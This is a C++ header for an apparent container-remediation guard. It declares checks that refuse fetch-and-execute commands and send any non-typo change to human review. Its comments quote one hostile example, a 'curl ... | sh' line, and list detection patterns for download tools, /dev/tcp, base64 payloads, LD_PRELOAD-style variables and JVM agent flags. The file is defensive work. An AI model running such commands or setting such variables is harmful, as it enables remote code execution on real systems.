// What the guard reads in the fields that say what a container runs: `command`, `args`, probe
// and lifecycle `exec` commands and env values. A path allow-list cannot judge these: the same
// field holds "nginx -g 'daemon off;'" and "curl http://x/p.sh | sh". The rules, from the most
// to the least severe (docs/guard.md):
//
//   fetch-and-exec  the new text brings code from elsewhere and runs it: a network source (a URL,
//                   an IP address, a download tool, /dev/tcp) or an encoded payload (base64 -d,
//                   a long base64 blob) together with something that executes (a shell or
//                   interpreter, a pipe, a command separator, $(...), chmod +x). Always refused.
//   exec-review     anything that is not a token-level correction of what was there: the same
//                   number of tokens, each changed token within a small edit distance of the old
//                   one ("ngnix" -> "nginx"), no new shell metacharacter, URL, IP address,
//                   interpreter, download tool or base64 blob. Never applied; at most proposed
//                   to people.
//
// Tokens: a list is its elements, each split at ASCII whitespace (so "sh -c 'a; b'" is judged
// word by word); a string is split at whitespace.
// Thread-safe (pure functions).
#ifndef REMEDIATOR_SERVER_REMEDIATOR_CORE_REMEDIATION_EXEC_CONTENT_H_
#define REMEDIATOR_SERVER_REMEDIATOR_CORE_REMEDIATION_EXEC_CONTENT_H_

#include <optional>
#include <string>
#include <vector>

#include "nlohmann/json.hpp"

namespace remediator::remediation {

// The tokens of a command-like value (see above). Null gives no tokens.
std::vector<std::string> CommandTokens(const nlohmann::json& value);

// Why `after` fetches and runs code that `before` did not, or nullopt.
std::optional<std::string> FetchAndExecReason(const std::vector<std::string>& before,
                                              const std::vector<std::string>& after);

// Why `after` is not a token-level correction of `before`, or nullopt when it is one.
std::optional<std::string> NotATokenCorrection(const std::vector<std::string>& before,
                                               const std::vector<std::string>& after);

// Why an env value looks like a command or a URL to fetch (reviewed, never applied), or nullopt.
std::optional<std::string> CommandLikeValue(const std::string& value);

// True for variables that make a runtime load or run code (LD_PRELOAD, BASH_ENV, NODE_OPTIONS,
// PYTHONSTARTUP, PERL5OPT...): a fix never sets them.
bool IsCodeLoadingVariable(const std::string& name);

// Why a JVM options value (JAVA_TOOL_OPTIONS, JAVA_OPTS...) loads or runs code (-javaagent,
// -agentpath, -XX:OnOutOfMemoryError...), or nullopt. Heap and GC flags pass.
std::optional<std::string> JvmCodeOption(const std::string& value);

// Optimal string alignment distance (Levenshtein with adjacent transpositions).
int EditDistance(const std::string& a, const std::string& b);

}  // namespace remediator::remediation

#endif  // REMEDIATOR_SERVER_REMEDIATOR_CORE_REMEDIATION_EXEC_CONTENT_H_
